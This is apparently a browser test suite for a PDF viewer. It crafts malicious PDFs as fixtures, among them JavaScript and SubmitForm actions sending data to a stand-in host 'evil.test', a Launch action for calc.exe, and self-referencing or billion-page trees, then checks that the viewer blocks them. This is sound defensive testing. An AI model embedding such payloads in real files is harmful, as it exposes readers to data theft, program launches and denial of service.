import { describe, expect, it, vi } from 'vitest';
import { page, userEvent } from 'vitest/browser';
import '../../styles.css';
import { madeSource, markedWords, unspaced } from './documents.fixture.ts';
import { mark, press, SENTENCE, showAnswer, status, viewer } from './open-viewer.fixture.tsx';
import { type MadePage, type MadePdf, writeObjects, writePdf } from './write-pdf.fixture.ts';

vi.setConfig({ testTimeout: 90_000 });

const LINES = ['The maximum height of a red', 'pine is about 43 m.'].map((text, at) => ({
  text,
  x: 60,
  y: 700 - at * 16,
}));
const one = (more: Partial<MadePdf> = {}, sheet: Partial<MadePage> = {}) =>
  writePdf({ pages: [{ lines: LINES, ...sheet }], ...more });
const EVIL = 'https://evil.test/';
const open = (action: string) => one({ catalogue: `/OpenAction<<${action}>>/AA<</WC<<${action}>>>>` });
const link = (action: string) =>
  one(
    {},
    {
      entries: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<<${action}>>>>]/AA<</O<<${action}>>>>`,
    },
  );

const found = (bytes: Uint8Array<ArrayBuffer>) => ({
  bytes,
  end: 'found',
  sentence: /^Passage found on page 1$/,
});
const damaged = (bytes: Uint8Array<ArrayBuffer>) => ({
  bytes,
  end: 'not-found',
  sentence: /damaged|too large/,
});
const text = (bytes: Uint8Array) => new TextDecoder('latin1').decode(bytes);
const latin1 = (words: string) => Uint8Array.from(words, (character) => character.charCodeAt(0));

/** Ten kids that are one and the same, nine floors deep: a billion pages in one kilobyte. */
const MANY_PAGES = writeObjects([
  '<</Type/Catalog/Pages 2 0 R>>',
  ...Array.from(
    { length: 9 },
    (_, floor) => `<</Type/Pages/Count ${10 ** (9 - floor)}/Kids[${`${floor + 3} 0 R `.repeat(10)}]>>`,
  ),
  '<</Type/Page/MediaBox[0 0 100 100]>>',
]);
/** The tree of pages holds itself. */
const ENDLESS = writeObjects([
  '<</Type/Catalog/Pages 2 0 R>>',
  '<</Type/Pages/Count 1000000/Kids[3 0 R]>>',
  '<</Type/Pages/Count 1000000/Parent 2 0 R/Kids[2 0 R]>>',
]);

const CASES: Record<string, { bytes: Uint8Array<ArrayBuffer>; end: string; sentence: RegExp }> = {
  'an action in JavaScript': found(open(`/S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("${EVIL}"\\))`)),
  'an address that opens with it': found(open(`/S/URI/URI(${EVIL})`)),
  'a program to launch': found(open('/S/Launch/F(calc.exe)/NewWindow true')),
  'a form that submits itself': found(open(`/S/SubmitForm/F<</FS/URL/F(${EVIL})>>`)),
  'a link over all of the page': found(link(`/S/URI/URI(${EVIL})`)),
  'a file inside': found(
    one({ catalogue: '/Names<</EmbeddedFiles<</Names[(a.html)<</Type/Filespec/F(a.html)>>]>>>>' }),
  ),
  'a form in XFA': found(
    one({
      catalogue:
        '/AcroForm<</Fields[]/XFA(<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>1</script></xdp:xdp>)>>/NeedsRendering true',
    }),
  ),
  'a content that is elsewhere': found(one({}, { entries: `/Thumb<</F<</FS/URL/F(${EVIL})>>>>` })),
  '10,000 pieces of text': found(
    one(
      {},
      {
        lines: [
          ...LINES,
          ...Array.from({ length: 10_000 }, (_, at) => ({
            text: `w${at % 97}`,
            x: 40 + (at % 60) * 9,
            y: 680 - Math.floor(at / 60) * 4,
            size: 4,
          })),
        ],
      },
    ),
  ),
  'an image of 30,000 × 30,000': found(
    one({}, { drawing: 'q 500 0 0 500 0 0 cm BI /W 30000 /H 30000 /BPC 8 /CS /RGB ID 0 EI Q' }),
  ),
  'a page of two million points': found(one({}, { size: [2_000_000, 842] })),
  'a page as thin as a thread': found(one({}, { size: [595, 3_000_000] })),
  'a broken table of objects': found(latin1(text(one()).replace(/startxref\n\d+/, 'startxref\n7'))),
  'a tree of pages that holds itself': damaged(ENDLESS),
  'a billion pages': damaged(MANY_PAGES),
  'half of it missing': damaged(latin1(text(one()).slice(0, 700))),
};

it('PDFs that would run, ask, grow or never end: nothing leaves, nothing runs, the page stays alive, faults are told', async () => {
  const [opened, alerted] = [vi.spyOn(window, 'open'), vi.spyOn(window, 'alert')];
  const names = Object.keys(CASES);
  const documents = Object.fromEntries(
    names.map((name, at) => [`${at}.pdf`, { bytes: CASES[name]?.bytes ?? latin1('') }]),
  );
  await showAnswer(documents);
  const place = location.href;
  for (const [index, name] of names.entries()) {
    // Without a pointer, which would stay over some other mark, and open its card.
    await expect.element(mark(index + 1)).toBeInTheDocument();
    (mark(index + 1).element() as HTMLElement).click();
    await expect
      .poll(() => [name, viewer()?.dataset['passage'], status()], { timeout: 40_000 })
      .toEqual([name, CASES[name]?.end, expect.stringMatching(CASES[name]?.sentence ?? '')]);
    const marks = CASES[name]?.end === 'found' ? [unspaced(SENTENCE)] : [];
    await expect.poll(markedWords, { message: name }).toEqual(marks);
    // Nothing of the document can be pressed.
    expect(
      viewer()?.querySelector('[data-slot="source-page"] :is(a, button, input, iframe, object, script)'),
    ).toBeNull();
    const canvas = viewer()?.querySelector('canvas');
    expect((canvas?.width ?? 0) * (canvas?.height ?? 0)).toBeLessThanOrEqual(16_777_216);
    await userEvent.keyboard('{Escape}');
    await expect.poll(viewer).toBeNull();
  }
  expect([opened.mock.calls, alerted.mock.calls]).toEqual([[], []]);
  const asked = performance.getEntriesByType('resource').map(({ name }) => new URL(name).hostname);
  expect(asked.filter((host) => host !== location.hostname && host !== '')).toEqual([]);
  expect(location.href).toBe(place);
}, 240_000);

describe('A PDF of 500 pages', () => {
  it.each([
    ['of half a megabyte', 0, 10],
    ['of 25 megabytes', 50_000, 10],
    ['whose pages hang side by side on one branch', 0, 500],
  ])('%s shows page 400 after three ranges at most', async (_, padding, kids) => {
    const bytes = writePdf({
      padding,
      kids,
      pages: Array.from({ length: 500 }, (__, at) => ({
        lines: at === 399 ? LINES : [{ text: `Sheet ${at + 1}.`, x: 60, y: 700 }],
      })),
    });
    const { seen } = await showAnswer(
      { 'long.pdf': { bytes } },
      {
        sources: [madeSource('long.pdf', { pages: [400] })],
      },
    );
    const ranges = () => seen.filter(({ range }) => range !== null).map(({ range }) => range);
    await press(1, 'found');
    expect(status()).toBe('Passage found on page 400');
    expect(ranges().length, ranges().join(' ')).toBeLessThanOrEqual(3);
    await expect.element(page.getByRole('textbox', { name: 'Page' })).toHaveValue('400');
    // Few pages are in the document at a time.
    expect(document.querySelectorAll('[data-slot="source-page"]').length).toBeLessThan(10);
    await page.getByRole('textbox', { name: 'Page' }).fill('499');
    await userEvent.keyboard('{Enter}');
    await expect.poll(() => document.querySelector('[data-page="499"] canvas')).not.toBeNull();
  });
});

it('Pages of other sizes keep their shape', async () => {
  const sizes = [
    [595, 842],
    [842, 595],
    [300, 300],
  ] as const;
  const bytes = writePdf({
    pages: sizes.map((size) => ({ lines: LINES.map((line) => ({ ...line, y: 200 })), size })),
  });
  await showAnswer({ 'mixed.pdf': { bytes } });
  await press(1, 'found');
  for (const [index, [width, height]] of sizes.entries()) {
    const field = page.getByRole('textbox', { name: 'Page' });
    await field.fill(String(index + 1));
    await userEvent.keyboard('{Enter}');
    const sheet = () => document.querySelector<HTMLElement>(`[data-page="${index + 1}"]`);
    await expect.poll(() => sheet()?.querySelector('canvas')).not.toBeNull();
    const box = sheet()?.getBoundingClientRect();
    expect((box?.width ?? 0) / (box?.height ?? 1)).toBeCloseTo(width / height, 1);
  }
});

/** Counts of what must not be left over. */
function watchLeftovers(): () => Record<string, number> {
  const count = { workers: 0, observers: 0, addresses: 0 };
  const RealWorker = globalThis.Worker;
  class CountedWorker extends RealWorker {
    constructor(...given: ConstructorParameters<typeof Worker>) {
      super(...given);
      count.workers += 1;
    }
    override terminate(): void {
      count.workers -= 1;
      super.terminate();
    }
  }
  vi.stubGlobal('Worker', CountedWorker);
  const observing = new Set<ResizeObserver>();
  class CountedObserver extends ResizeObserver {
    override observe(element: Element): void {
      observing.add(this);
      super.observe(element);
    }
    override disconnect(): void {
      observing.delete(this);
      super.disconnect();
    }
  }
  vi.stubGlobal('ResizeObserver', CountedObserver);
  const real = { create: URL.createObjectURL.bind(URL), revoke: URL.revokeObjectURL.bind(URL) };
  vi.spyOn(URL, 'createObjectURL').mockImplementation((given) => {
    count.addresses += 1;
    return real.create(given);
  });
  vi.spyOn(URL, 'revokeObjectURL').mockImplementation((address) => {
    count.addresses -= 1;
    real.revoke(address);
  });
  return () => ({
    ...count,
    observers: observing.size,
    highlights: CSS.highlights.size,
    elements: document.querySelectorAll('*').length,
    canvases: document.querySelectorAll('canvas').length,
  });
}

it('50 openings leave nothing behind: no worker, observer, address, highlight or element', async () => {
  const pages = Array.from({ length: 3 }, () => ({ lines: LINES }));
  const documents = {
    'a.pdf': { bytes: writePdf({ pages, padding: 60_000 }) },
    'b.md': { bytes: new TextEncoder().encode(`# Red pine\n\n${SENTENCE}`) },
  };
  await showAnswer(documents);
  await press(2, 'found');
  await userEvent.keyboard('{Escape}');
  await expect.poll(viewer).toBeNull();
  const left = watchLeftovers();
  const before = left();
  for (let count = 0; count < 50; count += 1) {
    const number = count % 5 < 2 ? 1 : 2;
    const element = mark(number).element() as HTMLElement;
    element.click();
    await expect.poll(viewer).not.toBeNull();
    // Some PDFs are closed while they load, the others once they are shown.
    if (count % 5 > 0)
      await expect.poll(() => viewer()?.dataset['passage'], { timeout: 25_000 }).toBe('found');
    const close = viewer()?.querySelector<HTMLElement>('[data-slot="source-close"]');
    close?.click();
    await expect.poll(viewer).toBeNull();
  }
  await expect.poll(left, { timeout: 5_000 }).toEqual(before);
  vi.unstubAllGlobals();
}, 240_000);
